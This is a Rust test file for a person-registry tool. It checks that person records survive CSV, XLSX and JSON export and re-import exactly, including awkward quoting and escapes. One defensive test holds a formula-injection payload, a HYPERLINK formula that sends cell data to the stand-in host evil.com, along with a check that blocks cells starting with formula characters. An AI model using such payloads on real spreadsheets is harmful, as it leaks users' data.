//! Export → import → export loses nothing (DESIGN.md: the person CSV is a
//! stable contract).

use crate::helpers::{Env, HEADER};

#[test]
fn csv_exports_survive_import_into_empty_databases_byte_for_byte() {
    let env = Env::new();
    env.seed("demo.db", 500);
    let first = env.path("first.csv");
    env.run(&[
        "export",
        "persons",
        "--out",
        first.to_str().unwrap(),
        "--db",
        &env.db("demo.db"),
    ])
    .ok();

    env.import("a.db", &first).ok();
    let second = env.export_csv("a.db");
    let second_path = env.write("second.csv", &second);
    env.import("b.db", &second_path).ok();
    let third = env.export_csv("b.db");

    assert_eq!(second, third);
    // Only the derived status differs from the demo export: imported
    // persons have no timeline yet. Every other cell must be identical,
    // quoted ones (commas, quotes, line breaks) included.
    let first = std::fs::read_to_string(&first).unwrap();
    let (first, second) = (without_status(&first), without_status(&second));
    assert_eq!(first.len(), 501);
    for (a, b) in first.iter().zip(&second) {
        assert_eq!(a, b);
    }
    assert_eq!(first.len(), second.len());
}

#[test]
fn cells_that_need_quoting_survive_export_and_import_exactly() {
    let env = Env::new();
    let original = format!(
        "{HEADER}\n\
         CU-1,José Luis,de la Cruz,Núñez,1975~,M,CU|ES,CU,\"Holguín, Cuba\",unknown,\
         \"dice \"\"no\"\"; vive con su tía\nsegunda línea\",\"tel. 5 000 0000, tarde\",yes\n\
         CU-2,María de los Ángeles,O'Farrill,,198X,F,,CU,\"a\r\nb\",unknown,;,\" espacios \",no\n"
    );
    let file = env.write("tricky.csv", &original);
    env.import("a.db", &file).ok();
    let exported = env.export_csv("a.db");
    let records = without_status(&exported);
    assert_eq!(records.len(), 3);
    assert_eq!(records[1][8], "Holguín, Cuba");
    assert_eq!(records[1][9], "dice \"no\"; vive con su tía\nsegunda línea");
    assert_eq!(records[1][10], "tel. 5 000 0000, tarde");
    assert_eq!(records[2][2], "O'Farrill");
    assert_eq!(records[2][8], "a\r\nb");
    assert_eq!(records[2][9], ";");
    // Surrounding spaces are trimmed on import, as for any field.
    assert_eq!(records[2][10], "espacios");
    let again = env.write("again.csv", &exported);
    env.import("b.db", &again).ok();
    assert_eq!(env.export_csv("b.db"), exported);
}

#[test]
fn cells_with_line_breaks_quotes_and_escape_like_text_survive_an_xlsx_round_trip() {
    // A workbook stores text as XML, where a bare CR is lost and `_x000D_`
    // is an escape: a note that holds either must come back as it was.
    let env = Env::new();
    let original = format!(
        "{HEADER}\n\
         CU-1,José Luis,de la Cruz,Núñez,1975~,M,CU|ES,CU,\"Holguín, Cuba\",unknown,\
         \"dice \"\"no\"\"; vive con su tía\nsegunda línea\",\"tel. 5 000 0000, tarde\",yes\n\
         CU-2,María de los Ángeles,O'Farrill,,198X,F,,CU,\"a\r\nb\",unknown,\
         escribió _x000D_ y _x0041_ tal cual,<b>&amp;</b>,no\n"
    );
    let file = env.write("tricky.csv", &original);
    env.import("a.db", &file).ok();
    let csv = env.export_csv("a.db");
    let xlsx = env.path("tricky.xlsx");
    env.run(&[
        "export",
        "persons",
        "--format",
        "xlsx",
        "--out",
        xlsx.to_str().unwrap(),
        "--db",
        &env.db("a.db"),
    ])
    .ok();
    env.import("b.db", &xlsx).ok();
    assert_eq!(env.export_csv("b.db"), csv);
    let records = without_status(&csv);
    assert_eq!(records[2][8], "a\r\nb");
    assert_eq!(records[2][9], "escribió _x000D_ y _x0041_ tal cual");
    assert_eq!(records[2][10], "<b>&amp;</b>");
}

/// The records of a person CSV, every field but `status`.
fn without_status(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let records: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let status = records[0].iter().position(|c| c == "status").unwrap();
    records
        .into_iter()
        .map(|mut r| {
            r.remove(status);
            r
        })
        .collect()
}

#[test]
fn an_xlsx_export_imports_to_the_same_registry_as_the_csv_export() {
    let env = Env::new();
    env.seed("demo.db", 300);
    let csv = env.path("p.csv");
    let xlsx = env.path("p.xlsx");
    env.run(&[
        "export",
        "persons",
        "--out",
        csv.to_str().unwrap(),
        "--db",
        &env.db("demo.db"),
    ])
    .ok();
    env.run(&[
        "export",
        "persons",
        "--format",
        "xlsx",
        "--out",
        xlsx.to_str().unwrap(),
        "--db",
        &env.db("demo.db"),
    ])
    .ok();
    env.import("from_csv.db", &csv).ok();
    env.import("from_xlsx.db", &xlsx).ok();
    assert_eq!(
        env.export_csv("from_csv.db"),
        env.export_csv("from_xlsx.db")
    );
}

#[test]
fn public_exports_round_trip_too() {
    let env = Env::new();
    env.seed("demo.db", 200);
    let public = env
        .run(&[
            "export",
            "persons",
            "--public-only",
            "--db",
            &env.db("demo.db"),
        ])
        .ok()
        .stdout;
    let file = env.write("public.csv", &public);
    env.import("a.db", &file).ok();
    let again = env
        .run(&[
            "export",
            "persons",
            "--public-only",
            "--db",
            &env.db("a.db"),
        ])
        .ok()
        .stdout;
    let file = env.write("again.csv", &again);
    env.import("b.db", &file).ok();
    let third = env
        .run(&[
            "export",
            "persons",
            "--public-only",
            "--db",
            &env.db("b.db"),
        ])
        .ok()
        .stdout;
    assert_eq!(again, third);
}

#[test]
fn csv_exports_neutralise_formulas_and_import_back_to_the_same_values() {
    let env = Env::new();
    // Written as the export writes them: each value that starts with
    // = + - @ or ' has one more apostrophe in front.
    let original = format!(
        "{HEADER}\n\
         CU-1,Ana,''Farrill,,,,,CU,Holguín,unknown,\
         \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"ver\"\")\",'+53 5555 5555,yes\n\
         CU-2,Ana,Pérez,,,,,CU,Habana,unknown,'-dice que,'@contacto,no\n"
    );
    let file = env.write("formulas.csv", &original);
    env.import("a.db", &file).ok();
    let db = env.db("a.db");
    // The values are the ones meant, without the apostrophes.
    let json = env
        .run(&["export", "persons", "--format", "json", "--db", &db])
        .ok()
        .stdout;
    let persons: serde_json::Value = serde_json::from_str(&json).unwrap();
    // (Names and provinces that start with a formula character are
    // refused on import; notes and contacts may.)
    assert_eq!(persons[0]["surname1"], "'Farrill");
    assert_eq!(
        persons[0]["private_notes"],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"ver\")"
    );
    assert_eq!(persons[0]["family_contact"], "+53 5555 5555");
    assert_eq!(persons[1]["private_notes"], "-dice que");
    // No cell of any CSV export starts as a formula, full or public.
    let full = env.export_csv("a.db");
    let public = env
        .run(&["export", "persons", "--public-only", "--db", &db])
        .ok()
        .stdout;
    for (which, csv) in [("full", &full), ("public", &public)] {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let mut rows = 0;
        for record in reader.records() {
            rows += 1;
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{which}: {cell}"
                );
            }
        }
        assert_eq!(rows, if which == "full" { 2 } else { 1 });
    }
    assert!(full.contains("'=HYPERLINK(") && full.contains("'+53 5555 5555"));
    assert!(public.contains(",''Farrill,") && !public.contains("HYPERLINK"));
    // Export → import gives the same registry back, from either export,
    // and the escaping is not applied twice.
    let again = env.write("again.csv", &full);
    env.import("b.db", &again).ok();
    assert_eq!(env.export_csv("b.db"), full);
    let public_file = env.write("public.csv", &public);
    env.import("c.db", &public_file).ok();
    let public_again = env
        .run(&[
            "export",
            "persons",
            "--public-only",
            "--db",
            &env.db("c.db"),
        ])
        .ok()
        .stdout;
    assert_eq!(public_again, public);
    // The workbook holds the values themselves (as text, never formulas),
    // and imports to the same registry.
    let xlsx = env.path("formulas.xlsx");
    env.run(&[
        "export",
        "persons",
        "--format",
        "xlsx",
        "--out",
        xlsx.to_str().unwrap(),
        "--db",
        &db,
    ])
    .ok();
    env.import("d.db", &xlsx).ok();
    assert_eq!(env.export_csv("d.db"), full);
}
